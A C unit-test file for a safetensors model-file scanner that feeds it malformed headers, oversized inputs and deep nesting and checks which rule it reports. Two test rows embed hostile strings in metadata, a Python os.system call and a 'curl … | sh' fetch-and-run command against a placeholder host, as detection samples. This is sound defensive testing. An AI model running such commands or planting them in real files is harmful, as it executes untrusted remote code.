/* safetensors: headers as text, each with its data. */
#include "scan_mem.h"

#include <bartizan/limits.h>

struct row {
    const char *rule;   /* NULL: clean */
    const char *header; /* JSON */
    size_t data;        /* bytes behind it */
    int64_t length;     /* what the file says about the header, less what it has */
};

#define T(name, type, shape, from, to)                                                             \
    "\"" name "\":{\"dtype\":\"" type "\",\"shape\":[" shape "],\"data_offsets\":[" from "," to "]}"

static const struct row rows[] = {
    {NULL, "{}", 0, 0},
    {NULL, "{" T("a", "F32", "2,3", "0", "24") "}", 24, 0},
    {NULL, "{" T("a", "F32", "2,3", "0", "24") "}     ", 24, 0},
    {NULL,
     "{ \"a\" : { \"shape\" : [ 2 , 3 ] , \"data_offsets\" : [ 0 , 24 ] , \"dtype\" : \"F32\" } }",
     24, 0},
    {NULL, "{" T("b", "F16", "2", "4", "8") "," T("a", "I32", "1", "0", "4") "}", 8, 0},
    {NULL, "{" T("scalar", "F64", "", "0", "8") "," T("none", "F32", "0,7", "8", "8") "}", 8, 0},
    {NULL, "{" T("four", "F4", "4", "0", "2") "," T("six", "F6_E2M3", "4", "2", "5") "}", 5, 0},
    {NULL, "{" T("c", "C64", "1", "0", "8") "," T("e", "F8_E8M0", "1", "8", "9") "}", 9, 0},
    {NULL,
     "{\"__metadata__\":{\"format\":\"pt\",\"note\":\"caf\\u00e9 \\ud83d\\ude00 \xc3\xa9\"}," T(
         "a", "U8", "1", "0", "1") "}",
     1, 0},
    {NULL, "{\"__metadata__\":{}}", 0, 0},
    {NULL, "{" T("n\\u0061me", "BOOL", "1", "0", "1") "}", 1, 0},
    {"ST-LENGTH", "{}", 0, 1},
    {"ST-LENGTH", "{}", 0, 100000001 - 2},
    {"ST-LENGTH", "{}", 0, INT64_C(1) << 39},
    {"ST-HEADER", " {}", 0, 0},
    {"ST-HEADER", "\n{}", 0, 0},
    {"ST-HEADER", "{}x", 0, 0},
    {"ST-HEADER", "{}\n", 0, 0},
    {"ST-HEADER", "{}{}", 0, 0},
    {"ST-JSON", "{", 0, 0},
    {"ST-JSON", "{\"a\"", 0, 0},
    {"ST-JSON", "{" T("a", "U8", "1", "0", "1"), 1, 0},
    {"ST-JSON", "{\"a", 0, 0},
    {"ST-JSON", "{" T("a", "U8", "1", "0", "1") ",}", 1, 0},
    {"ST-JSON", "{" T("a", "U8", "1", "0", "1") T("b", "U8", "1", "1", "2") "}", 2, 0},
    {"ST-JSON", "{" T("a\\x", "U8", "1", "0", "1") "}", 1, 0},
    {"ST-JSON", "{" T("a\\ud800", "U8", "1", "0", "1") "}", 1, 0},
    {"ST-JSON", "{" T("a\\udc00\\ud800", "U8", "1", "0", "1") "}", 1, 0},
    {"ST-JSON", "{" T("a\x01", "U8", "1", "0", "1") "}", 1, 0},
    {"ST-UTF8", "{" T("a\xff", "U8", "1", "0", "1") "}", 1, 0},
    {"ST-UTF8", "{" T("a\xed\xa0\x80", "U8", "1", "0", "1") "}", 1, 0},
    {"ST-UTF8", "{" T("a\xc0\x80", "U8", "1", "0", "1") "}", 1, 0},
    {"ST-KEY", "{\"a\":1}", 0, 0},
    {"ST-KEY", "{\"a\":[]}", 0, 0},
    {"ST-KEY", "{\"a\":{}}", 0, 0},
    {"ST-KEY", "{\"a\":{\"dtype\":\"U8\",\"shape\":[1]}}", 1, 0},
    {"ST-KEY", "{\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1],\"more\":1}}", 1, 0},
    {"ST-DUPKEY", "{" T("a", "U8", "1", "0", "1") "," T("a", "U8", "1", "1", "2") "}", 2, 0},
    {"ST-DUPKEY", "{" T("a", "U8", "1", "0", "1") "," T("\\u0061", "U8", "1", "1", "2") "}", 2, 0},
    {"ST-DUPKEY",
     "{\"a\":{\"dtype\":\"U8\",\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}}", 1, 0},
    {"ST-DUPKEY", "{\"__metadata__\":{},\"__metadata__\":{}}", 0, 0},
    {"ST-DUPKEY", "{\"__metadata__\":{\"a\":\"1\",\"a\":\"2\"}}", 0, 0},
    {"ST-METADATA", "{\"__metadata__\":{\"a\":1}}", 0, 0},
    {"ST-METADATA", "{\"__metadata__\":{\"a\":{}}}", 0, 0},
    {"ST-METADATA", "{\"__metadata__\":[]}", 0, 0},
    {"ST-DTYPE", "{" T("a", "F31", "1", "0", "4") "}", 4, 0},
    {"ST-DTYPE", "{" T("a", "f32", "1", "0", "4") "}", 4, 0},
    {"ST-DTYPE", "{\"a\":{\"dtype\":8,\"shape\":[1],\"data_offsets\":[0,1]}}", 1, 0},
    {"ST-SHAPE", "{" T("a", "U8", "-1", "0", "1") "}", 1, 0},
    {"ST-SHAPE", "{" T("a", "U8", "1.0", "0", "1") "}", 1, 0},
    {"ST-SHAPE", "{" T("a", "U8", "1e0", "0", "1") "}", 1, 0},
    {"ST-SHAPE", "{" T("a", "U8", "01", "0", "1") "}", 1, 0},
    {"ST-SHAPE", "{" T("a", "U8", "\"1\"", "0", "1") "}", 1, 0},
    {"ST-SHAPE", "{" T("a", "U8", "18446744073709551616", "0", "1") "}", 1, 0},
    {"ST-SHAPE", "{" T("a", "U8", "4294967296,4294967296", "0", "1") "}", 1, 0},
    {"ST-SHAPE", "{" T("a", "F64", "2305843009213693952", "0", "8") "}", 8, 0},
    {"ST-SHAPE", "{\"a\":{\"dtype\":\"U8\",\"shape\":1,\"data_offsets\":[0,1]}}", 1, 0},
    {"ST-SIZE", "{" T("a", "F32", "2", "0", "4") "}", 4, 0},
    {"ST-SIZE", "{" T("a", "F4", "3", "0", "2") "}", 2, 0},
    {"ST-SIZE", "{" T("a", "F4", "3", "0", "1") "}", 1, 0},
    {"ST-BOUNDS", "{" T("a", "U8", "1", "1", "0") "}", 1, 0},
    {"ST-BOUNDS", "{" T("a", "U8", "4", "0", "4") "}", 3, 0},
    {"ST-BOUNDS", "{" T("a", "U8", "4", "18446744073709551612", "18446744073709551615") "}", 3, 0},
    {"ST-BOUNDS", "{\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0]}}", 1, 0},
    {"ST-BOUNDS", "{\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":{}}}", 1, 0},
    {"ST-LAYOUT", "{" T("a", "U8", "2", "0", "2") "," T("b", "U8", "2", "1", "3") "}", 3, 0},
    {"ST-LAYOUT", "{" T("a", "U8", "1", "0", "1") "," T("b", "U8", "1", "2", "3") "}", 3, 0},
    {"ST-LAYOUT", "{" T("a", "U8", "1", "1", "2") "}", 2, 0},
    {"ST-LAYOUT", "{" T("a", "U8", "2", "0", "2") "," T("b", "U8", "2", "0", "2") "}", 2, 0},
    {"ST-TRAILING", "{" T("a", "U8", "1", "0", "1") "}", 2, 0},
    {"ST-TRAILING", "{}", 1, 0},
    {"ST-CODE", "{\"__metadata__\":{\"init\":\"import os; os.system('id')\"}}", 0, 0},
    {"ST-CODE", "{\"__metadata__\":{\"note\":\"curl http://x.example/a | sh\"}}", 0, 0},
};

static struct bz_buf file_of(const char *header, size_t n, size_t data, int64_t length) {
    struct bz_buf b;
    bz_buf_init(&b, 256u << 20);
    bz_buf_put_le64(&b, n + (uint64_t)length);
    bz_buf_put(&b, bz_view(header, n));
    for (size_t i = 0; i < data; i++)
        bz_buf_putc(&b, 0);
    assert_int_equal(b.st, BZ_OK);
    return b;
}

static void every_rule_holds(void **state) {
    size_t wrong = 0;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        struct bz_buf b =
            file_of(rows[i].header, strlen(rows[i].header), rows[i].data, rows[i].length);
        struct scanned s = scan_mem(bz_buf_view(&b));
        assert_int_equal(s.st, BZ_OK);
        bool ok = rows[i].rule == NULL
                      ? s.r.verdict == BZ_SCAN_CLEAN
                      : scan_mem_has(&s, rows[i].rule) != NULL && s.r.verdict == BZ_SCAN_FINDINGS;
        if (!ok || strcmp(s.r.format, "safetensors") != 0) {
            print_message("# not %s (%s): %s\n", rows[i].rule == NULL ? "clean" : rows[i].rule,
                          s.r.format, rows[i].header);
            scan_mem_print(&s);
            wrong++;
        }
        scan_mem_done(&s);
        bz_buf_free(&b);
    }
    assert_int_equal(wrong, 0);
}

static void every_cut_is_refused(void **state) {
    static const char header[] =
        "{\"__metadata__\":{\"format\":\"pt\"}," T("a", "F32", "2", "0", "8") "}";
    struct bz_buf b = file_of(header, sizeof header - 1, 8, 0);
    for (size_t n = 0; n < b.n; n++) {
        struct scanned s = scan_mem(bz_view(b.p, n));
        assert_int_equal(s.st, BZ_OK);
        if (n >= 10)
            assert_int_equal(s.r.verdict, BZ_SCAN_FINDINGS);
        scan_mem_done(&s);
    }
    bz_buf_free(&b);
}

/* Strings that straddle the reading window: the answer does not depend on where it ends. */
static void windows_do_not_show(void **state) {
    struct bz_buf h;
    bz_buf_init(&h, 4u << 20);
    for (size_t pad = 262144 - 80; pad < 262144 + 8; pad++) {
        bz_buf_reset(&h);
        bz_buf_puts(&h, "{\"__metadata__\":{\"k\":\"");
        while (h.n < pad)
            bz_buf_putc(&h, 'x');
        bz_buf_puts(
            &h, "\xe2\x96\x81\xf0\x9f\x98\x80\\ud83d\\ude00\"}," T("a", "U8", "1", "0", "1") "}");
        struct bz_buf b = file_of((const char *)h.p, h.n, 1, 0);
        struct scanned s = scan_mem(bz_buf_view(&b));
        assert_int_equal(s.st, BZ_OK);
        scan_mem_print(&s);
        assert_int_equal(s.r.verdict, BZ_SCAN_CLEAN);
        scan_mem_done(&s);
        bz_buf_free(&b);
    }
    bz_buf_free(&h);
}

/* ---- size ------------------------------------------------------------------------------------------------- */

static struct bz_buf crowd(size_t n) {
    struct bz_buf h;
    bz_buf_init(&h, 128u << 20);
    bz_buf_putc(&h, '{');
    for (size_t i = 0; i < n; i++)
        bz_buf_printf(&h, "%s\"t%zu\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[%zu,%zu]}",
                      i > 0 ? "," : "", n - i, n - 1 - i, n - i);
    bz_buf_putc(&h, '}');
    struct bz_buf b = file_of((const char *)h.p, h.n, n, 0);
    bz_buf_free(&h);
    return b;
}

static void a_million_tensors_fit(void **state) {
    static const struct {
        size_t n;
        const char *rule;
        enum bz_scan_verdict verdict;
    } cases[] = {
        {1000000, NULL, BZ_SCAN_CLEAN},
        {BZ_TENSORS_MAX, NULL, BZ_SCAN_CLEAN},
        {BZ_TENSORS_MAX + 1, "SCAN-LEFT-OUT", BZ_SCAN_UNCHECKED},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct bz_buf b = crowd(cases[i].n);
        struct scanned s = scan_mem(bz_buf_view(&b));
        assert_int_equal(s.st, BZ_OK);
        scan_mem_print(&s);
        assert_int_equal(s.r.verdict, cases[i].verdict);
        assert_true(cases[i].rule == NULL || scan_mem_has(&s, cases[i].rule) != NULL);
        scan_mem_done(&s);
        bz_buf_free(&b);
    }
}

static void brackets_do_not_recurse(void **state) {
    struct bz_buf h;
    bz_buf_init(&h, 4u << 20);
    bz_buf_puts(&h, "{\"a\":");
    for (int i = 0; i < 1000000; i++)
        bz_buf_putc(&h, i % 2 == 0 ? '[' : '{');
    struct bz_buf b = file_of((const char *)h.p, h.n, 0, 0);
    struct scanned s = scan_mem(bz_buf_view(&b));
    assert_int_equal(s.st, BZ_OK);
    assert_int_equal(s.r.verdict, BZ_SCAN_FINDINGS);
    scan_mem_done(&s);
    bz_buf_free(&b);
    bz_buf_free(&h);
}

/* ---- facts ------------------------------------------------------------------------------------------------- */

struct told {
    size_t tensors, metadata;
};

static void tell_tensor(void *ctx, const struct bz_tensor_fact *f) {
    struct told *t = ctx;
    assert_true(bz_view_eq(f->name, t->tensors == 0 ? BZ_V("w") : BZ_V("v")));
    assert_true(bz_view_eq(f->type, BZ_V("F16")));
    assert_int_equal(f->size, t->tensors == 0 ? 4 : 2);
    assert_int_equal(f->offset % 2, 0);
    t->tensors++;
}

static void tell_metadata(void *ctx, struct bz_view k, struct bz_view v) {
    struct told *t = ctx;
    assert_true(bz_view_eq(k, BZ_V("format")) && bz_view_eq(v, BZ_V("p\"t")));
    t->metadata++;
}

static void facts_are_told(void **state) {
    static const char header[] = "{\"__metadata__\":{\"format\":\"p\\\"t\"}," T(
        "w", "F16", "2", "2", "6") "," T("v", "F16", "1", "0", "2") "}";
    struct told t = {.tensors = 0};
    struct bz_facts f = {.ctx = &t, .tensor = tell_tensor, .metadata = tell_metadata};
    struct bz_scan_options opt = {.fail_on = BZ_SEVERITY_MEDIUM, .facts = &f};
    struct bz_buf b = file_of(header, sizeof header - 1, 6, 0);
    struct scanned s = scan_mem_with(bz_buf_view(&b), &opt);
    assert_int_equal(s.st, BZ_OK);
    assert_int_equal(s.r.verdict, BZ_SCAN_CLEAN);
    assert_int_equal(t.tensors, 2);
    assert_int_equal(t.metadata, 1);
    scan_mem_done(&s);
    bz_buf_free(&b);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_rule_holds),        cmocka_unit_test(every_cut_is_refused),
        cmocka_unit_test(windows_do_not_show),     cmocka_unit_test(a_million_tensors_fit),
        cmocka_unit_test(brackets_do_not_recurse), cmocka_unit_test(facts_are_told),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
